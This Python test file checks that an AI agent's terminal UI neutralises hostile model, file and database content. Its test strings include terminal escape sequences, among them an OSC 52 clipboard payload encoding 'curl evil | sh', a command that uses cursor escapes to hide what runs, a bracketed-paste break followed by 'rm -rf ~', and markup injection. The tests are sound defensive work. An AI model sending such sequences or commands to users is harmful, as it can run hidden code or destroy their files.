"""The TUI against a hostile model, workspace and database: nothing drawn holds a control
character, markup in outside text is shown literally, and the approval dialog names hidden
characters (H1, H2). Pilot tests over real HTTP (the scripted server) and real SQLite.
"""

from __future__ import annotations

from pathlib import Path

from textual.widgets import OptionList, Static
from textual.widgets._toast import Toast
from ui.tui_helpers import reply
from waits import wait_until

from agent.compaction import SUMMARY_KEY
from agent.tools.approvals import Verdict
from hermes_tui.screens.approval import ApprovalScreen
from hermes_tui.widgets.foldable import Foldable
from hermes_tui.widgets.messages import AnswerBlock, ErrorBlock
from hermes_tui.widgets.notes import SummaryBlock
from hermes_tui.widgets.tool_block import ToolBlock

ESCAPES = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ \x1b[2J \x9b2J \x9d0;c1\x9c \r"
MARKUP = "[bold red]x[/] [@click=app.quit]quit[/]"
HOSTILE = f"Done {ESCAPES} {MARKUP} end"
HIDDEN_COMMAND = "touch X #\x1b[19Dls -la"
HOSTILE_TOOL = "evil\x1b]0;pwned\x07"


def controls(text: str) -> list[str]:
    """The C0 (but newline and tab), DEL and C1 characters in `text`."""
    return [
        repr(char)
        for char in text
        if (ord(char) < 0x20 and char not in "\n\t") or 0x7F <= ord(char) <= 0x9F
    ]


def drawn(app) -> str:
    """Every line the top screen paints, as text."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


def widget_texts(app) -> str:
    """The text of every Static and option on every screen, folded bodies included."""
    texts = []
    for screen in app.screen_stack:
        for widget in screen.query(Static):
            texts.append(getattr(widget.visual, "plain", str(widget.visual)))
        for options in screen.query(OptionList):
            texts += [
                str(options.get_option_at_index(i).prompt) for i in range(options.option_count)
            ]
    return "\n".join(texts)


async def unfold_all(app, pilot) -> None:
    for block in app.query(Foldable):
        block.expanded = True
    await pilot.pause()


def hostile_script() -> dict:
    return {
        "replies": [
            {"status": 503, "error_message": f"overloaded {ESCAPES} retry"},
            reply(
                HOSTILE,
                reasoning=f"thinking {ESCAPES} {MARKUP}",
                tool_calls=[
                    {"id": "r1", "name": "read_file", "arguments": {"path": "notes.txt"}},
                    {"id": "s1", "name": "run_shell", "arguments": {"command": HIDDEN_COMMAND}},
                    {"id": "e1", "name": HOSTILE_TOOL, "arguments": {"x": ESCAPES}},
                ],
            ),
            reply(f"Final {ESCAPES} {MARKUP}\n\n```sh\necho hi\x1b[201~\nrm -rf ~\n```\n"),
            {"status": 400, "error_message": f"refused {ESCAPES} {MARKUP}"},
        ]
    }


async def test_a_hostile_turn_draws_no_control_character(make_app, scripted, workspace: Path):
    (workspace / "notes.txt").write_text(f"file says {ESCAPES} {MARKUP} bye\n")
    app = make_app(scripted(hostile_script()), approval="ask")
    async with app.run_test(size=(120, 40)) as pilot:
        await app.submit(f"go {ESCAPES}")
        await wait_until(pilot, lambda: isinstance(app.screen, ApprovalScreen), what="dialog")
        dialog = app.screen
        await pilot.pause()
        shown = drawn(app)
        assert controls(shown) == [] and controls(widget_texts(app)) == []
        # The command as the shell reads it, and a sentence that says so.
        detail = dialog.query_one("#approval-detail-text", Static).visual.plain
        assert "touch X #␛[19Dls -la" in detail
        warning = dialog.query_one("#approval-hidden", Static).visual.plain
        assert "Hidden characters" in warning and "1 control character (␛)" in warning
        assert "touch X #␛[19Dls -la" in shown and "Hidden characters" in shown
        # Typed (or pasted) meanwhile: it waits in the queue, then runs into a server error.
        await app.send(f"again {ESCAPES} {MARKUP}", "queue")
        await pilot.pause()
        queued = [str(option.prompt) for option in app.status_panel.queue_view.list.options]
        assert queued and "again ␛]0;pwned␇" in queued[0]
        assert controls(widget_texts(app)) == []
        dialog.dismiss(Verdict(False))
        await app.wait_for_turn()
        await unfold_all(app, pilot)
        texts = widget_texts(app)
        assert controls(texts) == [] and controls(drawn(app)) == []
        # Shown for what they are: the user sees the sequences the model sent.
        assert "␛]0;pwned␇" in texts and "\\x9b2J" in texts
        # Markup in the answer, the reasoning, a file and a tool name is plain text.
        answers = [a.source for a in app.query(AnswerBlock)]
        assert all(MARKUP in answer for answer in answers) and len(answers) == 2
        paragraphs = [s.visual.plain for a in app.query(AnswerBlock) for s in a.query(Static)]
        assert any(MARKUP in text for text in paragraphs)
        assert texts.count(MARKUP) >= 4  # the answers, the reasoning, the file contents
        tools = {block.call_id: block for block in app.query(ToolBlock)}
        assert "file says" in tools["r1"].body.visual.plain
        assert tools["e1"].tool_name == "evil␛]0;pwned␇"
        assert app.is_running  # [@click=app.quit] was never an action
        # The copy key copies what is shown: a pasted answer cannot end the terminal's
        # bracketed paste (ESC [201~) and run the rest as typed commands.
        app.action_copy()
        assert "echo hi␛[201~" in app.clipboard and controls(app.clipboard) == []
        # An error the server words itself reaches the error block, made safe.
        errors = [block.visual.plain for block in app.query(ErrorBlock)]
        assert errors and "refused ␛]0;pwned␇" in errors[-1], errors
        assert controls(widget_texts(app)) == [] and controls(drawn(app)) == []


async def test_stored_rows_titles_and_snippets_draw_no_control_character(make_app, scripted):
    app = make_app(scripted({"replies": [reply("ok")]}))
    async with app.run_test(size=(120, 40)) as pilot:
        await app.ready()
        db = app.db
        session = await db.create_session(
            model=f"m{ESCAPES}", provider="scripted", workspace="/w", title=f"t {ESCAPES} {MARKUP}"
        )
        sid = session["id"]
        summary = {SUMMARY_KEY: "standalone"}
        await db.add_message(
            sid, {"role": "user", "content": f"sum {ESCAPES}", "display_metadata": summary}
        )
        await db.add_message(sid, {"role": "user", "content": f"zebra {ESCAPES} {MARKUP}"})
        call = {"id": "c1", "name": "run_shell", "arguments": {"command": HIDDEN_COMMAND}}
        await db.add_message(sid, {"role": "assistant", "content": "", "tool_calls": [call]})
        await db.add_message(
            sid, {"role": "tool", "tool_call_id": "c1", "content": f"out {ESCAPES} {MARKUP}"}
        )
        await db.add_message(sid, {"role": "assistant", "content": f"zebra answer {HOSTILE}"})
        await db.add_message(
            sid,
            {
                "role": "user",
                "content": "",
                "display_kind": "model_switch",
                "display_metadata": {"from": f"a{ESCAPES}", "to": f"b {MARKUP}"},
            },
        )
        await app.resume_session(sid)
        await app.refresh_sessions()
        await unfold_all(app, pilot)
        texts, shown = widget_texts(app), drawn(app)
        assert controls(texts) == [] and controls(shown) == []
        assert "touch X #␛[19Dls -la" in texts  # the stored call's command, as the shell reads it
        assert f"\n {MARKUP}" in texts  # the stored output: sequences dropped, markup literal
        assert "t ␛]0;pwned␇" in texts  # the title in the sessions panel
        assert app.query_one(SummaryBlock).text.startswith("sum ␛]0;pwned␇")
        assert MARKUP in app.query_one(AnswerBlock).source
        # Search: the snippets quote the stored text.
        await pilot.press("ctrl+g", *"zebra")
        panel = app.sessions_panel
        await wait_until(pilot, lambda: panel.hits, what="hits")
        await pilot.pause()
        hits = "\n".join(
            str(panel.results.get_option_at_index(i).prompt)
            for i in range(panel.results.option_count)
        )
        assert controls(hits) == [] and "␛]0;" in hits
        assert controls(drawn(app)) == []


async def test_a_notice_with_markup_in_its_reason_is_shown_literally(make_app, monkeypatch):
    def refuse(*_args, **_kwargs):
        raise OSError(f"cannot write {MARKUP} {ESCAPES}")

    monkeypatch.setattr("hermes_tui.theming.save_ui_theme", refuse)
    app = make_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await app.ready()
        app.theme = "hermes-light"
        await wait_until(pilot, lambda: list(app.screen.query(Toast)), what="a toast")
        toast = app.screen.query_one(Toast)
        shown = str(toast.render())
        assert "[bold red]x[/]" in shown and "␛]0;pwned␇" in shown
        assert controls(shown) == [] and controls(drawn(app)) == []
